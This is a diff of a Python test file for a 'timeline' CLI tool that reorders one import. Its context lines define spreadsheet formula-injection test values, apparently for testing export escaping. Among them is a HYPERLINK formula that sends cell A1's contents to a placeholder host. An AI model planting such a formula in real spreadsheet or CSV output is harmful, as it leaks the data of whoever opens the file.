@@ -14,9 +14,9 @@ from pathlib import Path
 
 import pytest
 
+from tests.test_reliability import EN, REPO, error_lines, run_cli
 from timeline import cli, export
 from timeline.store import Store
-from tests.test_reliability import EN, REPO, error_lines, run_cli
 
 RISKY = ("=", "+", "-", "@", "\t", "\r")
 HYPERLINK = '=HYPERLINK("http://x/?"&A1,"click")'
